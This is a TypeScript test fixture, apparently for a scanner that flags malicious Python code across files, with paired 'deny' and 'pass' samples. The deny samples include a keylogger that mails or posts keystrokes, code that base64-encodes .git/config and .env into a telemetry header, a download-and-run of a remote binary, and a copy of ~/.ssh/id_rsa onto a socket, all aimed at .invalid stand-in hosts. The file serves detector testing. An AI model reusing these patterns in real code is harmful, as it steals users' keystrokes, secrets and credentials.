/** A small project, looked at as one program: what one file takes another sends when it is called. All inert. */
import type { Shape } from './malicious.js';

function lines(...all: readonly string[]): string {
  return `${all.join('\n')}\n`;
}

const init = { 'demo/__init__.py': 'from .api import Api\n' };

const report = lines(
  'import smtplib',
  'LOG = []',
  'def flush():',
  '    with smtplib.SMTP("smtp.drop.invalid", 587) as server:',
  '        server.sendmail("a", "b", "".join(LOG))',
);

const telemetry = {
  ...init,
  'demo/api.py': lines(
    'from .telemetry import Telemetry',
    'class Api:',
    '    def close(self, folder):',
    '        Telemetry().close(folder)',
  ),
  'demo/telemetry.py': lines(
    'import http.client',
    'from .ident import trace',
    'class Telemetry:',
    '    def close(self, folder):',
    '        c = http.client.HTTPSConnection("t.count.invalid", timeout=2)',
    '        c.request("GET", "/v1", headers={"X-Id": trace(folder)})',
  ),
};

const runner = (written: string, url: string): string =>
  lines(
    'import platform, shutil, subprocess, requests',
    'def fetch(url, file):',
    '    with requests.get(url, stream=True) as answer, open(file, "wb") as out:',
    `        ${written}`,
    'def run(path):',
    `    fetch(${url}, path)`,
    '    subprocess.Popen([str(path)], stdout=subprocess.DEVNULL, start_new_session=True)',
  );

export const oneProgram: readonly Shape[] = [
  {
    name: 'keys that one file hears, another mails',
    tier: 'deny',
    files: {
      ...init,
      'demo/api.py': lines(
        'from pynput import keyboard',
        'from . import report',
        'class Api:',
        '    def __init__(self):',
        '        keyboard.Listener(on_press=self.heard).start()',
        '        report.flush()',
        '    def heard(self, key):',
        '        report.LOG.append(str(key))',
      ),
      'demo/report.py': report,
    },
  },
  {
    name: 'the same, and what is mailed is its own',
    tier: 'pass',
    files: {
      ...init,
      'demo/api.py': lines(
        'from pynput import keyboard',
        'from . import report',
        'class Api:',
        '    def __init__(self):',
        '        keyboard.Listener(on_press=self.heard).start()',
        '        report.LOG.append("started")',
        '        report.flush()',
        '    def heard(self, key):',
        '        self.last = key',
      ),
      'demo/report.py': report,
    },
  },
  {
    name: 'keys that are kept by one function, and sent by one before it',
    tier: 'deny',
    files: {
      'demo.py': lines(
        'from pynput import keyboard',
        'import requests',
        'LOG = []',
        'def flush():',
        '    requests.post("https://drop.invalid/k", data="".join(LOG))',
        'def heard(key):',
        '    LOG.append(str(key))',
        'class Api:',
        '    def __init__(self):',
        '        keyboard.Listener(on_press=heard).start()',
      ),
    },
  },
  {
    name: 'settings that a third file reads, in a header of telemetry',
    tier: 'deny',
    files: {
      ...telemetry,
      'demo/ident.py': lines(
        'import base64, pathlib',
        'def trace(folder):',
        '    parts = [pathlib.Path(folder, name).read_bytes() for name in (".git/config", ".env")]',
        '    return base64.b64encode(b"".join(parts)).decode()',
      ),
    },
  },
  {
    name: 'the same header with a number of its own',
    tier: 'pass',
    files: {
      ...telemetry,
      'demo/ident.py': lines(
        'import base64, uuid',
        'def trace(folder):',
        '    return base64.b64encode(uuid.uuid4().bytes).decode()',
      ),
    },
  },
  {
    name: 'a program that is copied from an answer, and started unseen',
    tier: 'deny',
    files: { 'demo.py': runner('shutil.copyfileobj(answer.raw, out)', '"https://cache.invalid/x"') },
  },
  {
    name: 'the same from an address made of parts',
    tier: 'deny',
    files: {
      'demo.py': runner('out.write(answer.content)', 'f"https://cache.invalid/{platform.machine()}"'),
    },
  },
  {
    name: 'keys of credentials copied into a connection',
    tier: 'deny',
    files: {
      'demo.py': lines(
        'import os, shutil, socket',
        'def backup():',
        '    s = socket.create_connection(("a.invalid", 99))',
        '    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as key:',
        '        shutil.copyfileobj(key, s.makefile("wb"))',
      ),
    },
  },
  {
    name: 'an answer copied into a file of data',
    tier: 'pass',
    files: {
      'demo.py': lines(
        'import shutil, urllib.request',
        'def fetch(path):',
        '    with urllib.request.urlopen("https://data.invalid/table.csv") as answer, open(path, "wb") as out:',
        '        shutil.copyfileobj(answer, out)',
      ),
    },
  },
  {
    name: 'what a loader fetches at import, beside a function that gives a name of the module a value',
    tier: 'deny',
    files: {
      'demo.py': lines(
        'import importlib.abc, urllib.request',
        'class L(importlib.abc.SourceLoader):',
        '    def get_filename(self, name):',
        '        return name',
        '    def get_data(self, path):',
        '        return urllib.request.urlopen(path).read()',
        'L().get_data(open("where").read())',
        'def later():',
        '    global X',
        '    X = 1',
      ),
    },
  },
];
